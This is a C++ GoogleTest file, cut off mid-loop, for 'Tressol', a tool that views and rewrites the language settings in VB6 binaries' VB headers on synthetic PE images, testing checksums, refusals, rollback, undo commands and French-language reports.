// The tool's core on synthetic images: what it finds, what it refuses, what it writes.
#include "tressol.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <map>
#include <sstream>

#include "journal.h"
#include "pe_checksum.h"
#if __has_include(<xxhash.h>)
#define XXH_INLINE_ALL
#include <xxhash.h>
#endif
#include "pe_image.h"
#include "report.h"
#include "shown_text.h"
#include "vb_header.h"
#include "way_back.h"
#include "memory_target.h"
#include "synthetic_pe.h"

namespace tressol::test {
namespace {

// Without a journal, each change is said with the command that gives it back.
constexpr char kAction2[] = " --no-journal \"cible.exe\" vb6FR.dll 0x40C * 0x409";

struct Result {
  int status;
  Output output;
  MemoryTarget target;
};

Result RunOn(const std::vector<std::uint8_t>& image, const std::string& tail,
             const std::function<void(MemoryTarget&)>& prepare = {}) {
  MemoryFileSystem files;
  MemoryTarget& target = files.targets["cible.exe"];
  target.bytes = image;
  if (prepare) prepare(target);
  Output output;
  output.shell = Shell::Cmd;
  output.toolPath = "C:\\Outils\\Tressol.exe";
  const int status = Run(tail, files, output);
  return {status, output, target};
}

// The way back that a change printed, run as the console would run it.
std::vector<std::uint8_t> RunWayBack(const Result& result) {
  const std::string intro = "Pour annuler cette modification :\n  \"C:\\Outils\\Tressol.exe\"";
  const std::size_t start = result.output.out.find(intro);
  if (start == std::string::npos) return {};
  const std::size_t tail = start + intro.size();
  MemoryFileSystem files;
  files.targets["/abs/cible.exe"].bytes = result.target.bytes;
  files.journalRoom = 1 << 20;
  Output output;
  Run(result.output.out.substr(tail, result.output.out.find('\n', tail) - tail), files, output);
  return files.targets["/abs/cible.exe"].bytes;
}

bool Contains(const std::string& text, const std::string& part) {
  return Joined(text).find(part) != std::string::npos;
}

// Whether a mark of a name's bounds left the report, raw or as JSON writes it.
bool ShowsMarks(const std::string& text) {
  return text.find_first_of(std::string{kNameStart, kNameEnd}) != std::string::npos ||
         text.find("\\u0001") != std::string::npos || text.find("\\u0002") != std::string::npos;
}

TEST(TressolView, FindsTheHeaderByTheRuntimesOwnPointer) {
  struct Case {
    const char* what;
    SyntheticPe pe;
    const char* foundBy;
  };
  SyntheticPe exe, dll, searched;
  dll.dll = true;
  searched.codeNamesHeader = false;
  const Case cases[] = {
      {"EXE", exe, "point d'entrée"},
      {"DLL", dll, "exportations"},
      {"neither", searched, "recherche"},
  };
  for (const Case& c : cases) {
    const Result result = RunOn(c.pe.Build(), " cible.exe");
    EXPECT_EQ(result.status, 0) << c.what << result.output.err;
    EXPECT_TRUE(Contains(result.output.out, "position 0x500")) << c.what;
    EXPECT_TRUE(Contains(result.output.out, c.foundBy)) << c.what;
    EXPECT_TRUE(Contains(result.output.out, "cible.exe : fichier VB6, messages en anglais.\n"));
    EXPECT_TRUE(Contains(result.output.out, "Moteur d'exécution VB visé : build 8988\n"));
    EXPECT_TRUE(
        Contains(result.output.out, "Effet : « Les messages VB (erreurs…) sont en Anglais »\n"));
    EXPECT_EQ(result.target.writes, 0);
  }
}

TEST(TressolView, SaysWhatTheSettingsDoAndWhichHaveNoEffect) {
  struct Case {
    LanguageSettings settings;
    const char* plain;
    const char* brief;
    const char* says;
  };
  const Case cases[] = {
      {{"*", 0x40C, "vb6FR.dll", 0x409},
       "messages en anglais",
       "en anglais",
       "0x40C, sans effet avec * Bibliothèque secondaire : vb6FR.dll, sans effet après *"},
      {{"vb6FR.dll", 0x40C, "~", 0x409},
       "messages en français (aucun message sans vb6FR.dll)",
       "en français seulement",
       "0x409, sans effet, aucune bibliothèque Effet : « Les messages VB (erreurs…) sont en "
       "Français et VB6FR.dll DOIT"},
      {{"~", 0, "vb6DE.dll", 0x407},
       "messages en allemand (aucun message sans vb6DE.dll)",
       "en allemand seulement",
       "Effet : messages en allemand (aucun message sans vb6DE.dll)\n"},
      {{"", 0, "~", 0}, "aucun message VB", "sans message", "Effet : aucun message VB\n"},
      // A fall-back in the same language is no fall-back to speak of.
      {{"vb6EN.dll", 0x409, "*", 0x409},
       "messages en anglais",
       "en anglais",
       "Effet : messages en anglais\n"},
      {{"vb6FR.dll", 0x40C, "vb6DE.dll", 0x407},
       "messages en français (en allemand sans vb6FR.dll, aucun message sans vb6FR.dll ni "
       "vb6DE.dll)",
       "en français, en allemand ou sans message",
       "Effet : messages en français (en allemand sans vb6FR.dll, aucun message sans vb6FR.dll"},
      // An ID without a known name, said as an ID in a sentence of its own.
      {{"vb6DE.dll", 0x407, "XX.dll", 0x12345},
       "messages en allemand (dans la langue 0x12345 sans vb6DE.dll, aucun message sans vb6DE.dll "
       "ni XX.dll)",
       "en allemand, dans la langue 0x12345 ou sans message",
       "Langue secondaire       : 0x12345 Effet : messages en allemand (dans la langue 0x12345 "
       "sans"},
      {{"XX.dll", 0x12345, "*", 0},
       "messages dans la langue 0x12345 (en anglais sans XX.dll)",
       "dans la langue 0x12345 ou en anglais",
       "Effet : messages dans la langue 0x12345 (en anglais sans XX.dll)\n"},
      // Two libraries in one language: each named once.
      {{"vb6FR.dll", 0x40C, "vb6BE.dll", 0x80C},
       "messages en français (aucun message sans vb6FR.dll ni vb6BE.dll)",
       "en français seulement",
       "0x80C, français (Belgique)"},
      // The same file twice is tried once: missing the first time, it is missing the second.
      {{"vb6FR.dll", 0x40C, "VB6FR.DLL", 0x409},
       "messages en français (aucun message sans vb6FR.dll)",
       "en français seulement",
       "Effet : messages en français (aucun message sans vb6FR.dll)\n"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(Unmarked(PlainEffect(c.settings)), c.plain);
    EXPECT_EQ(ShortEffect(c.settings), c.brief);
    EXPECT_TRUE(Contains(Laid(DescribeSettings(c.settings), 100), c.says))
        << DescribeSettings(c.settings);
  }
}

// Every entry writes an ellipsis as one character, as French typography has it.
TEST(TressolReport, TheCatalogWritesEllipsesAsOneCharacter) {
  for (std::size_t i = 0; i < static_cast<std::size_t>(Words::kEnd); ++i) {
    const linguarde::catalog::Entry<char> entry = EntryAt(static_cast<Words>(i));
    for (const char* text : {entry.one, entry.other}) {
      if (text) {
        EXPECT_EQ(std::string_view(text).find("..."), std::string_view::npos) << text;
      }
    }
  }
}

// In a console, a no-break space before a two-part sign and inside « »; a name keeps its own.
TEST(TressolReport, TypesetsForAConsoleAndLeavesNamesAlone) {
  const std::string nb = "\xC2\xA0";
  struct Case {
    std::string text, shown;
  };
  const Case cases[] = {
      {"a.exe : modifié ; voir « C:\\x » !\nRéglages :\n",
       "a.exe" + nb + ": modifié" + nb + "; voir «" + nb + "C:\\x" + nb + "»" + nb + "!\nRéglages" +
           nb + ":\n"},
      {"C:\\a ;b!.exe et c?.txt", "C:\\a ;b!.exe et c?.txt"},
      // A name and a command are shown as they are: a path typeset is another path.
      {"« " + Named("x « y » ; z !") + " » : " + Kept("tressol --undo '/j ; k/« j »'"),
       "«" + nb + "x « y » ; z !" + nb + "»" + nb + ": tressol --undo '/j ; k/« j »'"},
  };
  for (const Case& c : cases) EXPECT_EQ(Unmarked(Typeset(c.text)), c.shown) << c.text;
}

TEST(TressolRefuses, FilesThatAreNotSafeToChangeAndLeavesThemAlone) {
  struct Case {
    const char* what;
    std::function<std::vector<std::uint8_t>()> build;
    Verdict verdict;
    std::optional<Verdict> cause;  // of a program of the runtime without a header
  };
  const Case cases[] = {
      {"not a PE image",
       [] { return std::vector<std::uint8_t>(600, 'x'); },
       Verdict::NoMzSignature,
       {}},
      {"too short",
       [] {
         return std::vector<std::uint8_t>{'M', 'Z'};
       },
       Verdict::TooShort,
       {}},
      {"64-bit",
       [] {
         auto b = SyntheticPe{}.Build();
         b[0x84] = 0x64;
         b[0x85] = 0x86;
         return b;
       },
       Verdict::NotI386,
       {}},
      {"truncated",
       [] {
         auto b = SyntheticPe{}.Build();
         b.resize(0x900);
         return b;
       },
       Verdict::SectionPastEnd,
       {}},
      {"no header",
       [] {
         SyntheticPe pe;
         pe.header = false;
         pe.codeNamesHeader = false;
         return pe.Build();
       },
       Verdict::RuntimeWithoutHeader, Verdict::NoVbSignature},
      {"header named outside the file",
       [] {
         SyntheticPe pe;
         pe.namedRva = 0x5000;
         return pe.Build();
       },
       Verdict::RuntimeWithoutHeader, Verdict::NoHeaderOutsideFile},
      {"named address is no header",
       [] {
         SyntheticPe pe;
         pe.namedRva = 0x1400;
         return pe.Build();
       },
       Verdict::RuntimeWithoutHeader, Verdict::NoHeaderWhereCodeSays},
      {"two candidates",
       [] {
         SyntheticPe pe;
         pe.codeNamesHeader = false;
         pe.secondHeader = true;
         return pe.Build();
       },
       Verdict::SeveralHeaders,
       {}},
      {"packed",
       [] {
         SyntheticPe pe;
         pe.codeNamesHeader = false;
         pe.sectionName = "UPX1";
         return pe.Build();
       },
       Verdict::PackedWithRuntime,
       {}},
      // Its DOS header names a place 8 bytes before its PE header: damaged, not a DOS program.
      {"PE header away from where MZ says",
       [] {
         auto b = SyntheticPe{}.Build();
         b[0x3C] -= 8;
         return b;
       },
       Verdict::PeHeaderElsewhere,
       {}},
      {"the same, of no program of the runtime",
       [] {
         SyntheticPe pe;
         pe.header = pe.codeNamesHeader = pe.importsRuntime = false;
         auto b = pe.Build();
         b[0x3C] -= 8;
         return b;
       },
       Verdict::NoPeSignature,
       {}},
      {"library name without its NUL",
       [] {
         SyntheticPe pe;
         pe.primary = "ABCDEFGHIJKLMN";
         return pe.Build();
       },
       Verdict::InvalidHeader,
       {}},
  };
  for (const Case& c : cases) {
    const std::vector<std::uint8_t> image = c.build();
    MemoryTarget target;
    target.bytes = image;
    MemoryFile file(target);
    try {
      LocateVbHeader(file, ReadPeImage(file));
      ADD_FAILURE() << c.what << ": taken for a VB6 file";
    } catch (const VerdictError& error) {
      EXPECT_EQ(error.Which(), c.verdict) << c.what;
      if (c.cause) {
        EXPECT_EQ(error.Cause(), *c.cause) << c.what;
      }
    }
    for (const std::string& tail : {std::string(" cible.exe"), std::string(kAction2)}) {
      const Result result = RunOn(image, tail);
      EXPECT_EQ(result.status, 3) << c.what;
      EXPECT_FALSE(result.output.err.empty()) << c.what;
      EXPECT_EQ(Contains(result.output.err, "n'a pas été modifié"), tail == kAction2) << c.what;
      EXPECT_EQ(result.target.writes, 0) << c.what;
      EXPECT_EQ(result.target.bytes, image) << c.what;
    }
  }
}

TEST(TressolSet, WritesTheFourSettingsAndKeepsTheChecksumValid) {
  struct Case {
    const char* what;
    SyntheticPe pe;
    std::function<void(std::vector<std::uint8_t>&)> spoil;
    const char* notExact;  // why the way back cannot give the same bytes
  };
  SyntheticPe exe, dll, noChecksum, signedFile, oddLength, quoted, uncarried;
  dll.dll = true;
  noChecksum.checksum = false;
  signedFile.signature = true;
  oddLength.overlay = 3;
  quoted.secondary = "R&D (v2).dll";    // the way back quotes it for cmd
  uncarried.secondary = "a%PATH%.dll";  // cmd would expand it, even between quotes
  const Case cases[] = {
      {"EXE", exe, {}, nullptr},
      {"DLL", dll, {}, nullptr},
      {"checksum zero", noChecksum, {}, nullptr},
      {"signed", signedFile, {}, nullptr},
      {"odd length", oddLength, {}, nullptr},
      {"stored checksum not the file's", exe,
       [](std::vector<std::uint8_t>& b) { b[ChecksumOffset(b) + 3] = 0x7F; },
       "n'était pas celle du fichier"},
      {"library name in quotes", quoted, {}, nullptr},
      {"library name cmd cannot carry", uncarried, {}, "ne peut pas être écrit"},
      {"bytes after a library name", noChecksum,
       [](std::vector<std::uint8_t>& b) { b[SyntheticPe::kHeaderOffset + 6 + 5] = 'X'; },
       "suivi d'octets"},
  };
  for (const Case& c : cases) {
    std::vector<std::uint8_t> before = c.pe.Build();
    if (c.spoil) c.spoil(before);
    const Result result = RunOn(before, kAction2);
    ASSERT_EQ(result.status, 0) << c.what << result.output.err;
    // The answer last, followed only by the way back.
    EXPECT_LT(result.output.out.find("cible.exe : modifié."),
              result.output.out.find("Pour annuler cette modification :"))
        << result.output.out;
    const std::vector<std::uint8_t>& after = result.target.bytes;
    const std::size_t h = SyntheticPe::kHeaderOffset;
    EXPECT_EQ(std::string(after.begin() + h + 6, after.begin() + h + 20),
              std::string("vb6FR.dll\0\0\0\0\0", 14))
        << c.what;
    EXPECT_EQ(std::string(after.begin() + h + 0x14, after.begin() + h + 0x22),
              std::string("*\0\0\0\0\0\0\0\0\0\0\0\0\0", 14))
        << c.what;
    EXPECT_EQ(after[h + 0x24], 0x0C);
    EXPECT_EQ(after[h + 0x25], 0x04);
    EXPECT_EQ(after[h + 0x28], 0x09);
    EXPECT_EQ(after[h + 0x29], 0x04);
    if (c.pe.checksum) {
      EXPECT_EQ(StoredChecksum(after), ReferenceChecksum(after)) << c.what;
    } else {
      EXPECT_EQ(StoredChecksum(after), 0u) << c.what;
    }
    const std::size_t field = 0x80 + 24 + 64;
    for (std::size_t i = 0; i < after.size(); ++i) {
      const bool settings = i >= h + 6 && i < h + 0x2C;
      const bool checksum = i >= field && i < field + 4;
      if (!settings && !checksum) {
        ASSERT_EQ(after[i], before[i]) << c.what << " byte " << i;
      }
    }
    EXPECT_TRUE(Contains(result.output.out,
                         "cible.exe : modifié. Avant : messages en anglais. Après : messages en "
                         "français (en anglais sans vb6FR.dll).\n"))
        << c.what << result.output.out;
    // The effect, before and after, is said once: in the answer.
    EXPECT_FALSE(Contains(result.output.out, "Effet :")) << c.what;
    EXPECT_EQ(Contains(result.output.out, "Authenticode"), c.pe.signature) << c.what;
    EXPECT_EQ(Contains(result.output.out, "la rend de nouveau valide"), c.pe.signature);
    // The way back gives the same bytes, or says why it cannot.
    EXPECT_EQ(RunWayBack(result) == before, c.notExact == nullptr) << c.what;
    EXPECT_TRUE(Contains(result.output.out, c.notExact ? c.notExact : "/abs/cible.exe\"\n"))
        << c.what << result.output.out;
  }
}

// A batch file carries what a prompt cannot: "%" doubled; "!" is kept by the script's
// DisableDelayedExpansion.
TEST(TressolWayBack, ABatchLineCarriesWhatAPromptCannot) {
  struct Case {
    const char* word;
    std::optional<std::string> prompt, script;
  };
  const Case cases[] = {
      {"C:\\App\\a.exe", "\"C:\\App\\a.exe\"", "\"C:\\App\\a.exe\""},
      {"C:\\100%\\a!.exe", std::nullopt, "\"C:\\100%%\\a!.exe\""},
      {"a\"b", std::nullopt, std::nullopt},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(CommandWord(c.word, Shell::Cmd), c.prompt) << c.word;
    EXPECT_EQ(CommandWord(c.word, Shell::CmdScript), c.script) << c.word;
  }
}

TEST(TressolSet, ASignatureIsSaidAndOneThatLeavesTheFileIsNotChanged) {
  SyntheticPe signedFile;
  signedFile.signature = true;
  std::vector<std::uint8_t> outside = signedFile.Build();
  outside[0x80 + 24 + 100 + 8 * 4] = 0x40;  // the certificates' size, past the end
  struct Case {
    std::vector<std::uint8_t> image;
    const char* tail;
    int status;
    const char* says;
  };
  const Case cases[] = {
      {signedFile.Build(), " cible.exe", 0, "Signature Authenticode : présente"},
      {signedFile.Build(), " --json cible.exe", 0, "\"signed\":true"},
      {outside, " cible.exe", 0, "dépasse la fin du fichier"},
      {outside, kAction2, 3, "dépasse la fin du fichier"},
  };
  for (const Case& c : cases) {
    const Result result = RunOn(c.image, c.tail);
    EXPECT_EQ(result.status, c.status) << c.tail << result.output.err;
    EXPECT_TRUE(Contains(result.output.out + result.output.err, c.says)) << c.tail;
    EXPECT_EQ(result.target.bytes, c.image) << c.tail;
  }
}

TEST(TressolSet, AFailedWriteLeavesTheFileAsItWas) {
  const std::vector<std::uint8_t> image = SyntheticPe{}.Build();
  const std::function<void(MemoryTarget&)> failures[] = {
      [](MemoryTarget& t) { t.failWrite = 1; },
      [](MemoryTarget& t) { t.failWrite = 2; },  // the checksum, after the settings
  };
  for (const auto& failure : failures) {
    Result result = RunOn(image, kAction2, failure);
    EXPECT_EQ(result.status, 4) << result.output.err;
    EXPECT_TRUE(Contains(result.output.err, "remis dans son état d'origine")) << result.output.err;
    EXPECT_EQ(result.target.bytes, image);
  }
  // A restore that fails too: the change failed, and the file is not as it was.
  const Result broken = RunOn(image, kAction2, [](MemoryTarget& t) {
    t.failWrite = 2;
    t.failLaterWrites = true;
  });
  EXPECT_EQ(broken.status, 4);
  EXPECT_TRUE(Contains(broken.output.err,
                       "Tressol : la modification de « cible.exe » a échoué : disque plein ; le "
                       "fichier n'a pas pu être remis dans son état d'origine : remplacez-le par "
                       "une copie de sauvegarde."))
      << broken.output.err;
}

// Another program that writes the file in place while it is being set (a build writing its
// output takes no lock): found before the first write, nothing is written; found after it,
// it is said and never rolled back over the other program's bytes. Never "modifié".
TEST(TressolSet, AFileRewrittenMeanwhileIsSaidNeverChangedAsAsked) {
  const std::vector<std::uint8_t> image = SyntheticPe{}.Build();
  std::vector<std::uint8_t> rebuilt = image;
  rebuilt[0x700] ^= 1;
  rebuilt[SyntheticPe::kHeaderOffset + 6] = 'Z';
  struct Case {
    const char* what;
    std::function<void(MemoryTarget&)> prepare;
    std::vector<std::uint8_t> after;  // the file's bytes once the run is over
  };
  const auto replace = [rebuilt](MemoryTarget& t) {
    t.bytes = rebuilt;
    ++t.version;
  };
  const Case cases[] = {
      {"written over before the check, times moved",
       [replace](MemoryTarget& t) { t.whileOpen = replace; }, rebuilt},
      // Same size and times as before (a clock set back): the bytes read again tell.
      {"written over before the check, times kept",
       [rebuilt](MemoryTarget& t) {
         t.whileOpen = [rebuilt](MemoryTarget& m) { m.bytes = rebuilt; };
       },
       rebuilt},
      {"written over just after the first write",
       [replace](MemoryTarget& t) { t.afterWrite = replace; },
       {}},
      {"read back other bytes", [](MemoryTarget& t) { t.lieOnReadBack = true; }, {}},
      // POSIX locks bind only those who take them: a file shortened under the set.
      {"shortened before the check, times kept",
       [](MemoryTarget& t) {
         t.whileOpen = [](MemoryTarget& m) { m.bytes.resize(SyntheticPe::kHeaderOffset + 8); };
       },
       std::vector<std::uint8_t>(image.begin(), image.begin() + SyntheticPe::kHeaderOffset + 8)},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files;
    files.journalRoom = 1 << 20;
    MemoryTarget& target = files.targets["cible.exe"];
    target.bytes = image;
    c.prepare(target);
    const int writesBefore = target.writes;
    Output output;
    EXPECT_EQ(tressol::Run(" \"cible.exe\" vb6FR.dll 0x40C * 0x409", files, output), 3) << c.what;
    EXPECT_TRUE(Contains(output.err, "il a été modifié par un autre programme pendant l'opération"))
        << c.what << output.err;
    EXPECT_FALSE(Contains(output.out + output.err, "remis dans son état d'origine")) << c.what;
    if (!c.after.empty()) {
      EXPECT_EQ(target.bytes, c.after) << c.what;
      EXPECT_EQ(target.writes, writesBefore) << c.what;
    } else {
      EXPECT_EQ(target.writes, 2) << c.what;  // nothing written back over it
    }
    // The record says so, and no undo is offered for it.
    EXPECT_NE(files.journals.begin()->second.find(" interfered crc="), std::string::npos) << c.what;
    EXPECT_FALSE(Contains(output.out, "Pour annuler")) << c.what << output.out;
    // Another program's file now: an undo leaves it alone.
    const std::vector<std::uint8_t> now = target.bytes;
    Output undo;
    target.lieOnReadBack = false;
    EXPECT_EQ(tressol::Run(" --undo \"" + files.journals.begin()->first + "\"", files, undo), 0)
        << c.what << undo.out;
    EXPECT_EQ(target.bytes, now) << c.what;
  }
}

// A set killed between its two writes leaves the new settings under the old checksum: the
// next set, with the same settings or others, of the file or of its folder, finds it wrong,
// makes it right and says so.
TEST(TressolSet, AnInterruptedSetIsRepairedNeverTrusted) {
  const std::vector<std::uint8_t> image = SyntheticPe{}.Build();
  const std::string set = " --no-journal \"app/cible.exe\" vb6FR.dll 0x40C * 0x409";
  const std::string original = " --no-journal \"app/cible.exe\" * 0x409 ~ 0x0";
  const std::string folderOriginal = " --no-journal \"app/\" * 0x409 ~ 0x0";
  for (const int killedAfter : {1, 2}) {
    for (const std::string& rerun :
         {set, original, std::string(" --no-journal \"app/\" vb6FR.dll 0x40C * 0x409"),
          folderOriginal}) {
      MemoryFileSystem files;
      MemoryTarget& target = files.targets["app/cible.exe"];
      target.bytes = image;
      target.killAfterWrite = killedAfter;
      Output killed;
      EXPECT_THROW(tressol::Run(set, files, killed), Killed);
      target.killAfterWrite = 0;
      Output output;
      ASSERT_EQ(tressol::Run(rerun, files, output), 0) << output.err;
      EXPECT_EQ(StoredChecksum(target.bytes), ReferenceChecksum(target.bytes)) << killedAfter;
      EXPECT_EQ(Contains(output.out, "fausse, corrigée en"), killedAfter == 1) << output.out;
      // A file whose checksum alone was made right was written: it counts as modified.
      if (rerun == " --no-journal \"app/\" vb6FR.dll 0x40C * 0x409") {
        EXPECT_TRUE(Contains(output.out, killedAfter == 1
                                             ? "Résumé : 1 fichier modifié, 0 déjà réglé"
                                             : "Résumé : 0 fichier modifié, 1 déjà réglé"))
            << output.out;
      }
      if (rerun == original || rerun == folderOriginal) {
        EXPECT_EQ(target.bytes, image) << killedAfter;
      }
    }
  }
}

TEST(TressolSet, SettingsAlreadyThereAreNotWritten) {
  const Result result = RunOn(SyntheticPe{}.Build(), " \"cible.exe\" * 0x409 ~ 0x0");
  EXPECT_EQ(result.status, 0);
  EXPECT_EQ(result.target.writes, 0);
  EXPECT_TRUE(Contains(result.output.out, "déjà"));
}

// The digest is XXH3 with our secret, whatever pieces it is given in (checked against the
// library where it is installed), and a file's is that of all its bytes but the ranges left
// out and the CheckSum field, in the same read as the PE sum.
TEST(TressolSums, TheDigestIsXxh3OfAllButWhatAChangeWrites) {
#if __has_include(<xxhash.h>)
  std::vector<std::uint8_t> bytes(5000);
  for (std::size_t i = 0; i < bytes.size(); ++i) bytes[i] = static_cast<std::uint8_t>(i * 131 + 7);
  for (const std::size_t length : {241, 256, 1023, 1024, 1025, 1088, 2048, 4999}) {
    for (const std::size_t piece :
         {std::size_t{1}, std::size_t{63}, std::size_t{64}, std::size_t{65}, std::size_t{4096}}) {
      // The wide vectors, where the processor has them, as its 4 KiB pieces take.
      Digest64 digest(piece == 4096 && WideVectors());
      for (std::size_t at = 0; at < length; at += piece) {
        digest.Add(bytes.data() + at, std::min(piece, length - at));
      }
      EXPECT_EQ(digest.Value(), XXH3_64bits_withSecret(bytes.data(), length, Digest64::Secret(),
                                                       Digest64::kSecretSize))
          << length << " in pieces of " << piece;
    }
  }
#endif
  MemoryTarget target;
  SyntheticPe pe;
  pe.overlay = (600 << 10) + 3;  // an odd length, over pieces and the blocks within them
  target.bytes = pe.Build();
  for (std::size_t i = target.bytes.size() - pe.overlay; i < target.bytes.size(); ++i) {
    target.bytes[i] = static_cast<std::uint8_t>(i * 131 + 7);
  }
  MemoryFile file(target);
  const std::uint64_t field = ChecksumOffset(target.bytes);
  std::vector<std::uint8_t> kept;
  for (std::size_t i = 0; i < target.bytes.size(); ++i) {
    if ((i < 0x500 || i >= 0x510) && (i < field || i >= field + 4)) kept.push_back(target.bytes[i]);
  }
  Digest64 expected;
  expected.Add(kept.data(), kept.size());
  for (const bool secondThread : {false, true}) {
    target.secondThread = secondThread;
    for (const std::size_t chunk :
         {std::size_t{4}, std::size_t{12}, std::size_t{100'002}, kChecksumChunk}) {
      const FileSums sums = SumFile(file, field, {{0x500, 0x10}, {0x504, 4}}, chunk);
      EXPECT_EQ(sums.digest, expected.Value()) << chunk << " " << secondThread;
      EXPECT_EQ(sums.checksum, ReferenceChecksum(target.bytes)) << chunk << " " << secondThread;
    }
    // A read that fails on either thread fails the sum, once both have stopped.
    for (const std::uint64_t piece : {2, 3}) {
      target.failReadAt = piece * 100'000;
      EXPECT_THROW(SumFile(file, field, {}, 100'000), StepError) << piece;
      target.failReadAt.reset();
    }
  }
  // From a slow drive, the thread whose turn it is not sleeps until it comes.
  target.readTime = std::chrono::milliseconds(3);
  EXPECT_EQ(SumFile(file, field, {{0x500, 0x10}, {0x504, 4}}, 100'002).digest, expected.Value());
  target.failReadAt = 300'000;
  EXPECT_THROW(SumFile(file, field, {}, 100'000), StepError);
}

// A view reads a few pages; a set reads the whole file once, for the checksum it trusts.
TEST(TressolReads, OnlyWhatItNeedsWhateverTheFilesSize) {
  SyntheticPe exe, dll;
  dll.dll = true;
  exe.overlay = dll.overlay = 16 << 20;
  for (const SyntheticPe& pe : {exe, dll}) {
    const std::vector<std::uint8_t> image = pe.Build();
    for (const std::string& tail : {std::string(" cible.exe"), std::string(kAction2)}) {
      const Result result = RunOn(image, tail);
      ASSERT_EQ(result.status, 0) << result.output.err;
      const std::uint64_t floor = tail == kAction2 ? image.size() : 0;
      EXPECT_GE(result.target.bytesRead, floor) << tail;
      EXPECT_LT(result.target.bytesRead, floor + 16384) << tail;
    }
  }
}

// A folder as an application ships it: VB6 binaries, a library that is not one, a
// truncated file, a binary already in the asked state, one whose write fails, a packed
// program that is not VB6 and a damaged one that is.
MemoryFileSystem ApplicationFolder() {
  MemoryFileSystem files;
  SyntheticPe dll, notVb6, french, packed, damaged;
  dll.dll = true;
  notVb6.header = notVb6.codeNamesHeader = notVb6.importsRuntime = false;
  // Packed-looking without the VB runtime: another program, left aside.
  packed.codeNamesHeader = packed.importsRuntime = false;
  packed.sectionName = "UPX1";
  // A program of the VB runtime whose code names a header outside the file: damaged.
  damaged.namedRva = 0x5000;
  french.primary = "vb6FR.dll";
  french.primaryLcid = 0x40C;
  french.secondary = "*";
  french.secondaryLcid = 0x409;
  files.targets["app/a.exe"].bytes = SyntheticPe{}.Build();
  files.targets["app/b.ocx"].bytes = dll.Build();
  files.targets["app/b2.exe"].bytes = SyntheticPe{}.Build();
  files.targets["app/b2.exe"].failWrite = 1;
  files.targets["app/c.dll"].bytes = notVb6.Build();
  files.targets["app/d.exe"].bytes = SyntheticPe{}.Build();
  files.targets["app/d.exe"].bytes.resize(0x900);
  files.targets["app/e.exe"].bytes = french.Build();
  files.targets["app/f.exe"].bytes = packed.Build();
  files.targets["app/g.exe"].bytes = damaged.Build();
  return files;
}

TEST(TressolFolder, EachFileAllOrNothingThenTheCounts) {
  struct Case {
    const char* tail;
    int status;
    std::vector<const char*> says;
    std::vector<const char*> changed;  // the files whose bytes change
  };
  const Case cases[] = {
      // A truncated file cannot be told a VB6 file or not: a failure, never left aside.
      {" app/",
       3,
       {"\na.exe : messages en anglais.\n",
        "\ne.exe : messages en français (en anglais sans vb6FR.dll).\n",
        "\nd.exe : en échec : le fichier est tronqué",
        "\ng.exe : en échec : il utilise le moteur d'exécution VB, mais l'en-tête VB que désigne "
        "son code serait hors du fichier",
        "\nFichiers non VB6 : aucun en-tête VB (« VB5! ») : c.dll "
        "compressé (UPX ou autre), sans le moteur d'exécution VB : f.exe\n",
        // The failures named again where the eye lands.
        "\nEn échec : d.exe, g.exe.\nRésumé : 4 fichiers VB6, 2 non VB6, 2 en échec. 3 fichiers : "
        "messages en anglais 1 fichier : messages en français (en anglais sans vb6FR.dll)\n"},
       {}},
      {" --no-journal \"app/\" vb6FR.dll 0x40C * 0x409",
       4,
       {"\na.exe : modifié, messages en anglais → messages en français (en anglais sans "
        "vb6FR.dll). "
        "Pour annuler cette modification",
        "\nb2.exe : en échec : disque plein ; le fichier a été remis dans son état d'origine.\n",
        // Each way back as soon as its file is done; the summary last.
        "\nb.ocx : modifié, messages en anglais → messages en français (en anglais sans "
        "vb6FR.dll). "
        "Pour annuler cette modification : "
        "\"C:\\Outils\\Tressol.exe\" --set * 0x409 ~ 0x0 \"/abs/app/b.ocx\"\nb2.exe",
        "\nEn échec : b2.exe, d.exe, g.exe.\nRésumé : 2 fichiers modifiés, 1 déjà réglé, 2 non "
        "VB6, "
        "3 en échec.\n"},
       {"app/a.exe", "app/b.ocx"}},
      {" --json --no-journal --set vb6FR.dll 0x40C * 0x409 app/",
       4,
       {"\"secondaryLcid\":1033,\"before\":{\"primaryLibrary\":\"*\",\"primaryLcid\":1033,"
        "\"secondaryLibrary\":\"~\",\"secondaryLcid\":0},",
        "\"done\":\"already-set\",\"signed\":false,\"headerOffset\":1280,\"runtimeBuild\":8988,"
        "\"primaryLibrary\":\"vb6FR.dll\",\"primaryLcid\":1036,\"secondaryLibrary\":\"*\","
        "\"secondaryLcid\":1033,\"before\":{\"primaryLibrary\":\"vb6FR.dll\","},
       {"app/a.exe", "app/b.ocx"}},
      {" --json app/",
       3,
       {"{\"line\":\"file\",\"path\":\"app/"
        "a.exe\",\"vb6\":true,\"done\":\"shown\",\"signed\":false,"
        "\"headerOffset\":1280,"
        "\"runtimeBuild\":",
        "\"primaryLibrary\":\"*\",\"primaryLcid\":1033,\"secondaryLibrary\":\"~\","
        "\"secondaryLcid\":0,\"libraries\":[],\"effect\":\"messages en anglais\","
        "\"words\":\"fichier VB6, messages en anglais\"}\n",
        "{\"line\":\"file\",\"path\":\"app/c.dll\",\"vb6\":false,\"done\":\"skipped\","
        "\"reason\":",
        // The run's end, as the window's line shows it and as the console says it.
        "{\"line\":\"summary\",\"mode\":\"view\",\"files\":8,\"vb6Files\":4,\"changedFiles\":0,"
        "\"restorableFiles\":0,\"alreadySetFiles\":0,\"matchingFiles\":0,\"differingFiles\":0,"
        "\"wrongChecksumFiles\":0,\"notVb6Files\":2,"
        "\"leftAsideFiles\":0,\"failedFiles\":2,\"journal\":null,\"undoExact\":false,"
        "\"words\":\"Résumé : 4 fichiers VB6, 2 non VB6, 2 en échec.\",\"short\":\"2 en échec, "
        "4 VB6 (3 en anglais, 1 en français ou en anglais), 2 non VB6\"}\n"},
       {}},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files = ApplicationFolder();
    const MemoryFileSystem before = ApplicationFolder();
    Output output;
    output.shell = Shell::Cmd;
    output.toolPath = "C:\\Outils\\Tressol.exe";
    EXPECT_EQ(tressol::Run(c.tail, files, output), c.status) << c.tail << output.err;
    for (const char* part : c.says) {
      EXPECT_TRUE(Contains("\n" + output.out, part)) << c.tail << ": " << part << "\n"
                                                     << output.out;
    }
    EXPECT_FALSE(ShowsMarks(output.out + output.err)) << c.tail;
    for (const auto& [name, target] : files.targets) {
